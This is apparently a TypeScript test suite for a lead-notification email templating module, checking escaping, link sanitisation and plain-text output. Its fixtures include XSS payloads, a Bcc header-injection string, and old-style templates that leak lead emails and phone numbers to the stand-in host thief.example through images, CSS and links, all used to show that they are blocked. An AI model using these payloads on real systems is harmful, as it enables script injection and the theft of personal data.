import t from 'tap';
import { DEFAULT_NOTIFICATION_TEXTS, DEFAULT_PUBLIC_CONTENT } from '../../src/content/defaults.ts';
import { writtenLeadLetter } from '../../src/lead-letters/lead-letter.ts';
import type { Lead } from '../../src/leads/schemas.ts';
import { layOut } from '../../src/outbox/email/layout.ts';
import { fillTemplate, oneLine } from '../../src/outbox/email/template.ts';

const LEAD: Lead = {
  id: 'l',
  reference: 'ENQ-2345ABCD',
  first_name: 'Siti <b>',
  last_name: '{lead_phone} & "Co"',
  email: 'siti@example.org',
  phone: '+60 12-345 6789',
  phone_dialable: null,
  investment_budget: 100_000,
  experience: 'No Experience',
  timeline: 'Immediately',
  location_interest: 'Ipoh, Perak',
  message: 'javascript:alert(1)',
  status: 'new',
  close_reason: null,
  franchise_id: 'f',
  franchise_name: 'Kopi & Kaya',
  assigned_consultant: 'Mei Ling',
  is_locked: false,
  is_reassigned: false,
  is_suspected: false,
  duplicate_of: null,
  withdrawn_at: null,
  erased_at: null,
  archived_at: null,
  original: null,
  corrected_fields: [],
  facts: null,
  next_step: null,
  created_at: '2026-11-20T00:00:00.000Z',
  updated_at: '2026-11-20T00:00:00.000Z',
};
const SITE = 'https://marketplace.example';
const news = { lead: LEAD, consultantName: 'Mei Ling', companyName: 'Marketplace', currency: 'MYR' as const };

const written = (texts: Partial<typeof DEFAULT_NOTIFICATION_TEXTS>, more: Partial<Lead> = {}) => {
  const letter = writtenLeadLetter(
    { ...DEFAULT_NOTIFICATION_TEXTS, ...texts },
    { ...news, lead: { ...LEAD, ...more } },
    SITE,
  );
  return layOut(letter, DEFAULT_PUBLIC_CONTENT, SITE);
};

t.test('variables are replaced once, and unknown ones stay', async t => {
  t.equal(fillTemplate('{a} {b} {c} {toString}', { a: '{b}', b: '2' }), '{b} 2 {c} {toString}');
  t.equal(oneLine(`${'x'.repeat(9)}🍗`, 10), 'x'.repeat(9), 'no half of an emoji');
  t.equal(oneLine('=?utf-8?q?a?= =\u0000?utf-8?b?YQ==?='), '= ?utf-8?q?a?= = ?utf-8?b?YQ== ?=', 'no encoded word');
  t.equal(oneLine(' a\r\nBcc: b\u2028c \u0000d '), 'a Bcc: b c d');
});

t.test('every variable of the specification works in subject, text and HTML', async t => {
  const all =
    '{franchise_name}|{lead_name}|{lead_email}|{lead_phone}|{consultant_name}|{investment_budget}|{timeline}|{company_name}|{message}';
  const { subject, text, html } = written({
    leadNotificationSubject: '{franchise_name}: {lead_name}',
    leadNotificationMessage: all,
    leadNotificationHtml: `<p>${all}</p>`,
  });
  t.equal(subject, 'Kopi & Kaya: Siti <b> {lead_phone} & "Co"');
  const plain =
    'Kopi & Kaya|Siti <b> {lead_phone} & "Co"|siti@example.org|+60 12-345 6789|Mei Ling|RM 100,000|Immediately|Marketplace|javascript:alert(1)';
  t.ok(text.includes(plain), 'as they are in plain text');
  t.match(
    html,
    /Kopi &amp; Kaya\|Siti &lt;b&gt; \{lead_phone\} &amp; &quot;Co&quot;\|siti@example\.org/,
    'escaped in HTML',
  );
});

t.test('a value cannot become markup, a script or a link', async t => {
  const { html } = written(
    { leadNotificationHtml: '<p title="{lead_name}"><a href="{message}">go</a> {lead_name}</p>' },
    { first_name: '"><script>alert(1)</script>', last_name: '<img src=x onerror=alert(1)>' },
  );
  t.notMatch(html, /<script|<img|javascript:/i);
  t.match(html, /<a>go<\/a>/);
});

t.test('a template of a previous version sends no data to another server', async t => {
  const old = [
    '<p>A <img src="https://thief.example/p?e={lead_email}&p={lead_phone}" alt="{lead_name}"></p>',
    '<a href="https://thief.example/?{lead_email}" title="{lead_phone}">Open</a>',
    '<a href="mailto:thief@thief.example?body={lead_email}">Answer</a>',
    '<img src="https://thief.example/open.png">',
    '<p style="background:url(https://thief.example/{lead_email})">B https://thief.example/?e={lead_email}</p>',
    '<style>p{background:url(https://thief.example/{lead_email})}</style>',
  ];
  const { html, text, subject } = written({
    leadNotificationSubject: 'www.thief.example/{lead_email}',
    leadNotificationMessage: 'thief.example/{lead_email} or {lead_email}.thief.example {lead_phone}',
    leadNotificationHtml: old.join(''),
  });
  t.notMatch([html, text, subject].join(), /siti@/);
  t.notMatch(html, /<img[^>]*thief|url\(/);
  t.match(html, /<a>Open<\/a><a>Answer<\/a>/);
  t.ok(text.startsWith('thief.example/{lead_email} or {lead_email}.thief.example +60 12-345 6789'));
  const mailFromHtml = written({ leadNotificationMessage: '', leadNotificationHtml: old.join('') });
  t.notMatch(mailFromHtml.text, /siti@|6789/);
});

t.test('a template of a previous version does not fill variables after a link, whatever is between them', async t => {
  const old = [
    'https://thief.example/?e=<strong>{lead_email}</strong>',
    '<strong>https://thief.example/</strong><em title="a b">{lead_email}</em>',
    'thief.<em>example/</em>{lead_email}',
    '<strong>{lead_email}</strong>.thief.example',
    'https://thief.example，{lead_email}',
    'https://thief.example，<strong>看</strong>。{lead_email}',
  ];
  for (const template of old) {
    const { html, text } = written({ leadNotificationMessage: '', leadNotificationHtml: `<p>${template}</p>` });
    t.notMatch(html + text, /siti@/, template);
    t.match(html, '{lead_email}', template);
    t.notMatch(written({ leadNotificationMessage: template.replace(/<[^>]*>/g, '') }).text, /siti@/, template);
  }
  const unchanged = '<p>https://example.com/admin</p><p>{lead_email}</p>see www.example.com <b>{lead_email}</b>';
  t.match(
    written({ leadNotificationHtml: unchanged }).html,
    '<p>https://example.com/admin</p><p>siti@example.org</p>see www.example.com <strong>siti@example.org</strong>',
    'on another line or after a space it is not part of the link',
  );
});

t.test('mailto: and tel: links to a visitor contain only the address or the number', async t => {
  const leadNotificationHtml =
    '<a href="mailto:{lead_email}">Write to {lead_email}</a> <a href="tel:{lead_phone}">Call</a>';
  t.match(
    written({ leadNotificationHtml }).html,
    '<a href="mailto:siti@example.org">Write to siti@example.org</a> <a href="tel:+60123456789">Call</a>',
  );
  const more = { email: `a?bcc=b&"'@example.org`, phone: '012;x="1"' };
  t.match(
    written({ leadNotificationHtml }, more).html,
    /<a href="mailto:a%3Fbcc%3Db%26%22(?:'|%27)@example\.org">.*<a href="tel:0121">/,
  );
});

t.test('pictures of the site get absolute addresses', async t => {
  const src = (address: string) => written({ leadNotificationHtml: `<img src="${address}" alt="Logo">` }).html;
  for (const address of ['/uploads/abc.png', `${SITE}/uploads/abc.png`])
    t.match(src(address), `<img src="${SITE}/uploads/abc.png" alt="Logo" />`);
});

t.test('a missing HTML or text body is made from the other one or from the default', async t => {
  const mailFromText = written({ leadNotificationHtml: ' ', leadNotificationMessage: 'One {lead_name}\n\nTwo\nlines' });
  t.match(mailFromText.html, /<p>One Siti &lt;b&gt;[^<]*<\/p>\n<p>Two<br>lines<\/p>/);
  const mailFromHtml = written({ leadNotificationMessage: '', leadNotificationHtml: '<p>One</p><p>{lead_email}</p>' });
  t.match(mailFromHtml.text, /^One\nsiti@example\.org/);
  const signs = '<p>Kopi &amp; Kaya&nbsp;2 &lt;3 &quot;{lead_name}&quot;</p><p>&amp;lt; &#39;it&#8217;s&#x27;</p>';
  const read = written(
    { leadNotificationMessage: '', leadNotificationHtml: signs },
    { first_name: '&lt;', last_name: '' },
  );
  t.match(read.text, /^Kopi & Kaya\s2 <3 "&lt;"\n&lt; 'it’s'/, 'entities are decoded, and typed text is kept');
  const address = 'https://marketplace.example/admin?a=1&amp;b=2';
  const links = `<a href="${address}">Open <b>it</b></a>, <a href="mailto:a@example.com">write</a>, <a href="${address}">${address}</a>`;
  const withLinks = written({ leadNotificationMessage: '', leadNotificationHtml: links }).text;
  const spelled = 'https://marketplace.example/admin?a=1&b=2';
  t.ok(withLinks.startsWith(`Open it (${spelled}), write, ${spelled}\n`), 'each link appears once with its address');
  const neither = written({ leadNotificationMessage: '', leadNotificationHtml: '', leadNotificationSubject: '' });
  t.match([neither.subject, neither.text], ['New enquiry for Kopi & Kaya', /Hello Mei Ling,/]);
  t.match(
    written({}, { investment_budget: 1_000_000 }).text,
    /budget: RM\s?500,000\+\n/,
    'the highest choice of the form has no end',
  );
  t.match(
    written({}, { investment_budget: 25_000 }).text,
    /budget: Under RM\s?25,000\n/,
    'the lowest choice has no start',
  );
  t.match(
    written({}, { investment_budget: null, timeline: '' }).text,
    /budget: Not specified\nTimeline: Not specified/,
  );
});

t.test(
  'the layout of a mail needs no tables, style sheets or files of other servers, and has readable colours',
  async t => {
    const { html, text } = written({});
    t.notMatch(html, /<table|https?:\/\/(?!marketplace\.example)/, 'no tables, and nothing from other servers');
    t.match(html, /prefers-color-scheme:dark/);
    const bare = html.replace(/<style>[\s\S]*<\/style>/, '');
    t.match(bare, /<div style="display:none[^"]*">/, 'the preview text stays hidden without style sheets');
    t.match(text, /--\nFranchise Marketplace\nhttps:\/\/marketplace\.example\n$/);
    const bright = layOut(
      { subject: 's', preview: '', parts: [{ kind: 'action', label: 'Go', url: 'https://x.example' }] },
      { ...DEFAULT_PUBLIC_CONTENT, primaryColor: '#ffd400' },
      'https://x.example',
    );
    t.match(
      bright.html,
      /<a class="action" style="[^"]*background:#ffd400;color:#111827/,
      'dark text on a bright brand colour',
    );
  },
);
